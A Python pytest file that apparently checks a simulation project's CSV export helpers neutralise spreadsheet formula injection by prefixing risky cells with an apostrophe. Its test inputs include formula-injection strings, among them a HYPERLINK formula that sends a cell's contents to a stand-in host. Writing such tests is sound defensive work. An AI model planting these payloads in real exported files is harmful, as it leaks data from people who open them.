"""Spreadsheet-safe text: one helper, used by every CSV the project writes (issue 14.5, 16.5)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from sim.export.cells import safe_cell, safe_frame, safe_text, write_csv, write_rows

from .conftest import HOSTILE

TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\r=x", HOSTILE, '=HYPERLINK("http://x/?d="&A1,"Click")']


@pytest.mark.parametrize("text", TRIGGERS)
def test_formula_text_gets_a_leading_apostrophe(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["individual", "team pool", "", "-12.5", "+3", "1e-4", "a=b", "'quoted"])
def test_plain_text_and_numbers_are_unchanged(text: str) -> None:
    assert safe_text(text) == text


def test_cells_other_than_text_are_unchanged() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None


def test_frame_text_cells_and_headers_are_safe_numbers_untouched() -> None:
    df = pd.DataFrame({"scheme": [HOSTILE, "ok"], "mean": [-1.0, 2.0], "=col": ["-x", "y"]})
    out = safe_frame(df)
    assert out["scheme"].tolist() == ["'" + HOSTILE, "ok"] and out["mean"].tolist() == [-1.0, 2.0]
    assert list(out.columns) == ["scheme", "mean", "'=col"] and out["'=col"].tolist() == ["'-x", "y"]
    assert df["scheme"].iloc[0] == HOSTILE   # the input is not modified


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as f:
        return [c for row in csv.reader(f) for c in row]


def _no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
           or (c.startswith("-") and not c.replace(".", "", 1).lstrip("-").replace("e", "", 1).isdigit())]
    assert bad == []


def test_write_csv_and_write_rows_neutralise(tmp_path: Path) -> None:
    write_csv(pd.DataFrame({"scheme": [HOSTILE], "x": [-1.5]}), tmp_path / "a.csv", excel=True)
    cells = _cells(tmp_path / "a.csv")
    assert "'" + HOSTILE in cells and "-1.5" in cells
    _no_formula(cells)
    write_rows([{"id": "@x", "fee": "-12.00"}], tmp_path / "b.csv")
    assert _cells(tmp_path / "b.csv") == ["id", "fee", "'@x", "-12.00"]


def test_validation_csv_is_safe(tmp_path: Path) -> None:
    from sim.validation.report import write
    from sim.validation.result import CheckOutcome, exact_row

    row = exact_row("c", HOSTILE, "-claim", "@source", 1.0, 1.0, 0.1)
    write(tmp_path, [CheckOutcome("c", "title", [row])], "quick")
    cells = _cells(tmp_path / "validation.csv")
    assert "'" + HOSTILE in cells and "'-claim" in cells and "'@source" in cells
    _no_formula(cells)


def test_summary_csv_of_a_batch_is_safe(finance_batch: Path) -> None:
    cells = _cells(finance_batch / "summary.csv")
    _no_formula(cells)
    schemes = pd.read_parquet(finance_batch / "runs.parquet")["scheme"].unique().tolist()
    if HOSTILE in schemes:   # while scheme names allow it: the hostile name itself, neutralised
        assert "'" + HOSTILE in cells
